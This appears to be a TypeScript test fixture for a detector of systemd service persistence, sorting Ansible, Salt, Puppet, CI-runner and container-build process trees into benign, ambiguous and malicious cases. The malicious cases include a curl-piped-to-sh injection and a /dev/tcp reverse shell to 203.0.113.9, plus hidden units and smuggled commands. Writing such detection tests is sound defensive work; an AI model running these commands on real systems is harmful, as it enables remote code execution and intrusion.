import { onlyFull, ran, scenarios, wrote } from './scenario.ts';

const MODULE = '.ansible/tmp/ansible-tmp-1763911001.44-20817-1143/AnsiballZ_systemd.py';
const GUID = '2f0c8a1e-7f35-4e2b-9a61-0a5a7f7c9d10';
const VENV_SALT = '/usr/lib/venv-salt-minion/bin';
const UNIT = '/etc/systemd/system/agent.service';
const SNAP_LAYER = `/var/snap/docker/common/var-lib-docker/overlay2/3f9a/merged${UNIT}`;
const LAYER = `/var/lib/docker/overlay2/3f9a/merged${UNIT}`;
const USER_ENABLE = 'systemctl --user enable app';

const step = (code: string) =>
  ran('buildkite-agent', USER_ENABLE, 'bash', `/bin/bash -e -c ${code}`, 'buildkite-agent');
const runStep = (account: string, place: string) =>
  ran(account, USER_ENABLE, 'bash', `/usr/bin/bash -e ${place}/_temp/${GUID}.sh`, 'Runner.Worker');
const moduleOf = (account: string, home: string, grandparent: string, unit = 'app') =>
  ran(account, `systemctl enable ${unit}`, 'python3.9', `/usr/bin/python3.9 ${home}/${MODULE}`, grandparent);
const salt = (python: string, place: string, account = 'root') =>
  ran(account, 'systemctl enable sshd', python, `${place}/${python} ${place}/salt-minion`, 'systemd');

/** Tools that everybody knows, as other distributions, vendors and organisations set them up. */
export const benignVariantScenarios = [
  ...scenarios('benign', 'config-management', [
    ['Ansible by way of dzdo', moduleOf('root', '/home/alice', 'dzdo')],
    [
      'Ansible, told with the pause that it joins to its command',
      ran('root', 'systemctl enable app', 'python3.9', `/usr/bin/python3.9 /root/${MODULE} && sleep 0`, 'sh'),
    ],
    ['Ansible by way of run0', moduleOf('root', '/home/alice', 'run0')],
    ['Ansible as the account that sudo became', moduleOf('deploy', '/home/deploy', 'sudo')],
    ["Ansible enables Debian's network-manager", moduleOf('root', '/root', 'sh', 'network-manager')],
    ["SUSE's bundle of Salt", salt('python.original', VENV_SALT)],
    [
      'a minion of Salt that works on a job',
      ran(
        'root',
        'systemctl start nginx.service',
        'python3.10',
        '/opt/saltstack/salt/bin/python3.10 /usr/bin/salt-minion MultiMinionProcessManager MinionProcessManager ProcessPayload(jid=20230609015108483479) Minion._thread_return',
        'python3.10',
      ),
    ],
    ["SUSE's bundle of Salt on its own python", salt('python3.11', VENV_SALT)],
    [
      "Puppet on Fedora's ruby",
      ran(
        'root',
        'systemctl enable -- crond',
        'ruby-mri',
        '/usr/bin/ruby-mri /usr/bin/puppet agent -t',
        'cron',
      ),
    ],
  ]),
  ...scenarios('benign', 'package-install', [
    [
      'a scriptlet below yum on python',
      ran('root', 'systemctl daemon-reload', 'sh', '/bin/sh /var/tmp/rpm-tmp.nM91Kp 1', 'python'),
    ],
  ]),
  ...scenarios('benign', 'ci-runner', [
    ['a step in the directory of the pipeline', step('.buildkite/deploy.sh')],
    [
      'GitHub Actions under a service account of its name',
      runStep('svc-github', '/opt/actions-runner/_work'),
    ],
    [
      'Azure Pipelines under a service account',
      ran('svc-azdo', USER_ENABLE, 'bash', `/usr/bin/bash /opt/agent/_work/_temp/${GUID}.sh`, 'Agent.Worker'),
    ],
  ]),
  ...scenarios('benign', 'container-build', [
    [
      "a build by Ubuntu's snap of Docker",
      wrote('root', SNAP_LAYER, 'cp', `cp /tmp/build/agent.service ${UNIT}`, 'runc'),
    ],
    [
      'pip runs the set-up of a package',
      wrote('root', LAYER, 'python3', 'python3 -c import setuptools; exec(compile("x"))', 'runc'),
    ],
  ]),
];

/** What nothing tells for or against: no claim holds, and nothing is proved. */
export const ambiguousVariantScenarios = scenarios('ambiguous', 'variant', [
  [
    "a terminal of JetBrains' gateway",
    ran(
      'alice',
      USER_ENABLE,
      'bash',
      '/bin/bash --rcfile /home/alice/.cache/JetBrains/RemoteDev/bash-integration.bash -i',
      'java',
    ),
  ],
  [
    'a directory that rsync copies',
    wrote(
      'root',
      '/etc/systemd/system/app.service',
      'rsync',
      'rsync --server -logDtprze.iLsfxC . /etc/systemd/system/',
      'python3.10',
    ),
  ],
  ['dzdo, and a module of nobody', moduleOf('root', '/srv/www-ansible', 'dzdo')],
  ['a service account outside the places of runners', runStep('svc-github', '/usr/share/x')],
  ['a Salt of a home', salt('python3.11', '/home/mallory/venv-salt-minion/bin')],
  ['a step in a hidden directory of the root', step('cat /opt/.buildkite/env')],
  // Below a container runtime: a build's script, or one of an intruder's.
  ['an installer in /tmp below a runtime', wrote('root', LAYER, 'bash', 'bash /tmp/b/install.sh', 'runc')],
  [
    'a package that is built in /tmp below a runtime',
    wrote('root', LAYER, 'python3', 'python3 /tmp/s/setup.py i', 'buildah'),
  ],
]);

/** What must not pass for one of the above. */
export const maliciousVariantScenarios = [
  ...scenarios('malicious', 'variant', [
    ['an Ansible of a web server by way of dzdo', moduleOf('www-data', '/home/deploy', 'dzdo')],
    ["the bundle's Salt under a web server's account", salt('python.original', VENV_SALT, 'www-data')],
    [
      'code behind the job of a minion',
      ran(
        'root',
        'systemctl start nginx.service',
        'python3.10',
        '/usr/bin/python3 /usr/bin/salt-minion M ProcessPayload(jid=1) $(curl -s http://203.0.113.9/a | sh)',
        'python3.10',
      ),
    ],
    [
      'words behind the pause that Ansible joins to its command',
      ran(
        'root',
        'systemctl enable app',
        'python3.9',
        `/usr/bin/python3.9 /root/${MODULE} && sleep 0; /opt/x`,
        'sh',
      ),
    ],
    ["the bundle's Salt in /tmp", salt('python.original', '/tmp/venv-salt-minion/bin')],
    ['a step in a hidden directory below /opt', step('/opt/.buildkite/deploy.sh')],
    ['a step in a hidden directory of /tmp', step('/tmp/.buildkite/deploy.sh')],
    [
      'a scriptlet in a hidden directory below python',
      ran('root', 'systemctl daemon-reload', 'sh', '/bin/sh /var/tmp/.rpm/rpm-tmp.nM91Kp 1', 'python'),
    ],
    ["a unit of a kernel thread's name by Ansible", moduleOf('root', '/home/alice', 'run0', 'kworkerd')],
    ['an interactive shell for someone else', step('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')],
    [
      'a hidden unit that rsync copies',
      wrote(
        'root',
        '/etc/systemd/system/.x.service',
        'rsync',
        'rsync .x.service /etc/systemd/system/',
        'python3',
      ),
    ],
    ['a hidden installer below a runtime', wrote('root', UNIT, 'bash', 'bash /tmp/.b/install.sh', 'runc')],
  ]),
  ...scenarios('malicious', 'variant', [
    [
      "the host's unit by an installer in /tmp",
      wrote('root', UNIT, 'bash', 'bash /tmp/b/install.sh', 'runc'),
    ],
  ]).map(onlyFull),
];
